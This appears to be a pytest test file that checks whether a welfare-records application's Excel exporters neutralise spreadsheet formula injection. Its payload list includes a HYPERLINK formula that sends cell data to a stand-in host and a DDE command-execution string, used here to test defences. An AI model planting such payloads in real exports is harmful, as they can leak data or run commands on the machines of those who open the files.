"""Workbook safety (issue 10): user text starting with = + - @ never becomes a formula.

Checked through the real exporters (PPKS list, monthly recap, import error
report) by reading the files back: with openpyxl (the cell is a string, not a
formula) and in the sheet XML itself (no <f> element anywhere holds it).
"""
from __future__ import annotations

import re
import zipfile

import pytest
from openpyxl import load_workbook

from tests.sinkron_helpers import add_person, add_service

PAYLOADS = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "+62 812-3456-7890",
    "-1+2 gang mawar",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
]


def _cells(path):
    wb = load_workbook(path)  # not read-only: data_type is reported for every cell
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def _assert_inert(path, expected):
    found = {}
    for sheet, cell in _cells(path):
        if isinstance(cell.value, str) and cell.value in expected:
            assert cell.data_type == "s", (sheet, cell.coordinate, cell.data_type)
            found[cell.value] = cell.coordinate
    assert set(found) == set(expected), f"missing in workbook: {set(expected) - set(found)}"
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                formulas = re.findall(r"<f[ >].*?</f>", xml, flags=re.S)
                assert not [f for f in formulas if "HYPERLINK" in f or "SUM" in f or "cmd" in f], (name, formulas)


@pytest.fixture
def risky(db, monkeypatch):
    monkeypatch.setenv("KESOS_TODAY", "2025-12-15")
    people = []
    for i, payload in enumerate(PAYLOADS):
        p = add_person(db, nama=f"{payload}" if i % 2 == 0 else f"Warga {i}", nik=f"61710301015000{i:02d}",
                       tanggal="2025-11-03")
        from db import records

        records.update(db, "orang", p["orang"]["id"], {"alamat": payload, "keterangan": payload})
        add_service(db, p["orang"]["id"], tanggal="2025-11-10")
        people.append(p)
    return people


def test_ppks_list_export(risky, db, tmp_path):
    from exporters.ppks_xlsx import export_people

    out = export_people(db, tmp_path / "ppks.xlsx")
    assert out["rows"] == len(PAYLOADS)
    _assert_inert(tmp_path / "ppks.xlsx", set(PAYLOADS))


def test_monthly_recap(risky, db, tmp_path):
    from exporters.recap_xlsx import tulis_rekap

    tulis_rekap(db, "2025-11", tmp_path / "rekap.xlsx")
    names = {p for i, p in enumerate(PAYLOADS) if i % 2 == 0}  # the by-name (BNBA) sheet lists the names
    _assert_inert(tmp_path / "rekap.xlsx", names)


def test_import_error_report(db, tmp_path):
    from exporters.importer import get_spec, read_for, run_import, write_error_report

    src = tmp_path / "ppks.csv"
    lines = ["NIK,Nama,Alamat,Kategori PPKS"]
    lines += [f'123,"{p.replace(chr(34), chr(34) * 2)}","{p.replace(chr(34), chr(34) * 2)}",8' for p in PAYLOADS]
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    spec = get_spec("ppks")
    table = read_for(spec, src)
    report = run_import(db, spec, table)
    assert report.rejected == len(PAYLOADS)
    write_error_report(tmp_path / "kesalahan.xlsx", table, report, spec)
    _assert_inert(tmp_path / "kesalahan.xlsx", set(PAYLOADS))
